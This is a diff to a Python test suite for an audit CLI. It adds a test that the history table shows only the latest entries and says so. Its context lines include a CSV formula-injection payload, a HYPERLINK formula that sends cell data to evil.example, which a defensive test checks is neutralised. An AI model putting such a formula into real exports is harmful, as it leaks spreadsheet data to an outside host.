@@ -205,3 +205,30 @@ def test_formula_injection_in_the_audit_csv_export_is_neutralised(
     assert rows and {row["actor"] for row in rows} == {"'" + '=HYPERLINK("http://evil.example/?"&A1,"open")'}
     assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    for row in rows for value in row.values())
+
+
+def test_the_history_table_shows_the_latest_entries_and_says_what_it_left_out(
+    harness: Harness, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A table of a whole trail (millions of entries) would never finish: it shows the latest ones, in
+    chain order, and says so; CSV and JSON stream everything unless a limit is given."""
+    from creditsync.cli import audit_cmds
+
+    invoke("sync", "market_supervision")
+    every = history()
+    assert len(every) > 8
+    last_ids = [str(entry["id"]) for entry in every[-5:]]
+
+    monkeypatch.setattr(audit_cmds, "TABLE_LIMIT", 5)
+    table = invoke("audit", "history")
+    shown = [line.split()[1] for line in table.stdout.splitlines() if line.startswith("│")]
+    assert shown == last_ids, table.stdout
+    assert "only the latest 5 entries are shown" in table.stderr
+    whole = invoke("audit", "history", "--limit", "0")
+    assert len([line for line in whole.stdout.splitlines() if line.startswith("│ ")]) >= len(every)
+    assert "only the latest" not in whole.stderr
+
+    assert [entry["id"] for entry in history("--limit", "3")] == [entry["id"] for entry in every[-3:]]
+    assert len(history()) == len(every)  # JSON: all of them unless asked
+    exactly = invoke("audit", "history", "--limit", str(len(every)))
+    assert "only the latest" not in exactly.stderr
